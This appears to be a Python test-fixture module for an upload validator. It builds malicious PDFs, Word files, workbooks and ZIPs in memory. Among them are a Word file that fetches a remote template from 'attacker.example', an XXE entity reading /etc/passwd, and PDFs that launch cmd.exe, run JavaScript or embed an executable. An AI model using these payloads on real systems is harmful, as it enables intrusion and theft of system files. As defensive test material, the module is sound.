"""Hostile files made in memory, one per way a small upload or return can hurt: PDFs that ask for
gigabytes of bitmap or carry active content, Word files that fetch a template or carry macros,
and returned workbooks and ZIPs that are broken in the ways real archivers and attackers break
them. Each is a few hundred bytes to a few kilobytes."""

import io
import struct
import zipfile

from tests import samples


def pdf_from(objects: list[bytes], root: int = 1) -> bytes:
    """A well-formed PDF (header, numbered objects, xref table, trailer) around these bodies."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def _page_pdf(page: bytes = b"/MediaBox [0 0 595 842]", catalog: bytes = b"", extra: list[bytes] = ()) -> bytes:
    content = b"q 0 0 1 rg 10 10 100 100 re f Q"
    return pdf_from([b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R " + page + b" >>",
                     b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
                     *extra])


def huge_page_pdf(points: int = 30000) -> bytes:
    """457 bytes that ask a renderer for a 30000×30000-point page (about 5 GB at preview scale)."""
    return _page_pdf(b"/MediaBox [0 0 %d %d]" % (points, points))


def user_unit_pdf(unit: int = 1000) -> bytes:
    """An ordinary A4 box scaled by /UserUnit into a page kilometres wide."""
    return _page_pdf(b"/MediaBox [0 0 595 842] /UserUnit %d" % unit)


def large_but_legal_pdf() -> bytes:
    """A0 (841×1189 mm): drawings and maps are this big; must be previewed, at a capped size."""
    return _page_pdf(b"/MediaBox [0 0 2384 3370]")


def open_action_view_pdf() -> bytes:
    """/OpenAction that only says where to open (what Acrobat writes): nothing active."""
    return _page_pdf(catalog=b"/OpenAction [3 0 R /Fit]")


ACTIVE_PDFS = {
    "JavaScript on open": lambda: _page_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "JavaScript name tree": lambda: _page_pdf(catalog=b"/Names << /JavaScript 5 0 R >>",
                                              extra=[b"<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>"]),
    "Launch action": lambda: _page_pdf(page=b"/MediaBox [0 0 595 842] /Annots [5 0 R]",
                                       extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
                                              b"/A << /S /Launch /F (cmd.exe) >> >>"]),
    "embedded file": lambda: _page_pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >>",
                                       extra=[b"<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>",
                                              b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"]),
    "additional actions on a page": lambda: _page_pdf(
        page=b"/MediaBox [0 0 595 842] /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "name spelt with #-escapes": lambda: _page_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
}


def _rezip(data: bytes, replace: dict[str, bytes | None], stored: bool = False) -> bytes:
    """A copy of an OOXML/ZIP file with parts replaced (None removes one)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in replace:
                continue
            target.writestr(info.filename, source.read(info))
        for name, body in replace.items():
            if body is not None:
                target.writestr(name, body)
    return out.getvalue()


def docx_with_remote_template() -> bytes:
    """Word fetches (and runs the macros of) a template from this address when the file opens."""
    data = samples.docx_file()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        settings = z.read("word/settings.xml").decode()
    settings = settings.replace("</w:settings>", '<w:attachedTemplate r:id="rId1"/></w:settings>')
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/'
                                                    'officeDocument/2006/relationships" ', 1)
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
            '</Relationships>')
    return _rezip(data, {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": rels.encode()})


def docx_with_macros() -> bytes:
    return _rezip(samples.docx_file(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 508})


# --- broken returned workbooks --------------------------------------------------------------

def with_doctype(workbook: bytes, part: str) -> bytes:
    """An XXE attempt: a DOCTYPE declaring an external entity, used in a cell."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        xml = z.read(part).decode()
    body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
    evil = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body)
    evil = evil.replace("<sheetData>", '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>', 1)
    return _rezip(workbook, {part: evil.encode()})


def with_broken_xml(workbook: bytes, part: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        xml = z.read(part)
    return _rezip(workbook, {part: xml[: len(xml) // 2]})


def _entry_offsets(data: bytes, name: str) -> tuple[int, int]:
    """(local header offset, central directory entry offset) of one member."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        local = z.getinfo(name).header_offset
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(b"PK\x05\x06"))
    while True:
        name_length = struct.unpack("<H", data[central + 28:central + 30])[0]
        if data[central + 46:central + 46 + name_length] == name.encode():
            return local, central
        central = data.rindex(b"PK\x01\x02", 0, central)


def with_bad_crc(data: bytes, name: str) -> bytes:
    """One byte of a stored member changed after the CRC was written."""
    data = _rezip(data, {}, stored=True)
    local, _central = _entry_offsets(data, name)
    name_length, extra_length = struct.unpack("<HH", data[local + 26:local + 30])
    start = local + 30 + name_length + extra_length
    return data[:start + 10] + bytes([data[start + 10] ^ 0x20]) + data[start + 11:]


def _set_header(data: bytes, name: str, flag_or: int = 0, method: int | None = None) -> bytes:
    local, central = _entry_offsets(data, name)
    out = bytearray(data)
    for at, flag_pos, method_pos in ((local, 6, 8), (central, 8, 10)):
        flags = struct.unpack("<H", out[at + flag_pos:at + flag_pos + 2])[0] | flag_or
        out[at + flag_pos:at + flag_pos + 2] = struct.pack("<H", flags)
        if method is not None:
            out[at + method_pos:at + method_pos + 2] = struct.pack("<H", method)
    return bytes(out)


def with_encrypted_entry(data: bytes, name: str) -> bytes:
    """The member marked as encrypted (what a password-protected ZIP from an archiver is)."""
    return _set_header(data, name, flag_or=0x1)


def with_deflate64_entry(data: bytes, name: str) -> bytes:
    """The member marked Deflate64 (Windows Explorer writes it for large folders)."""
    return _set_header(data, name, method=9)


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in entries.items():
            z.writestr(name, body)
    return out.getvalue()
